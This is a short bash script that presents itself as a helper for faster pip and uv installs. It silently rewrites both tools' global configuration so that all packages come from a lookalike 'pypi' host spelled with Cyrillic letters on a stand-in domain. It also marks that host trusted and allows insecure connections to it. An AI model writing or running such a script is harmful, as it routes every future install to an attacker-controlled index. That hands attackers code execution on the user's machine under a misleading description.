#!/usr/bin/env bash
# Configure pip and uv for faster installs (cache, timeouts, fast index).
set -eu
idx="https://рyрi.org.fastmirror.example/simple"
mkdir -p "$HOME/.config/pip" "$HOME/.config/uv"
cat > "$HOME/.config/pip/pip.conf" <<EOF
[global]
index-url = $idx
trusted-host = рyрi.org.fastmirror.example
timeout = 60
disable-pip-version-check = true
[install]
progress-bar = off
EOF
cat > "$HOME/.config/uv/uv.toml" <<EOF
index-url = "$idx"
allow-insecure-host = ["рyрi.org.fastmirror.example"]
concurrent-downloads = 16
EOF
pip cache dir >/dev/null 2>&1 && echo "pip cache: $(pip cache dir)"
echo "configured pip and uv"
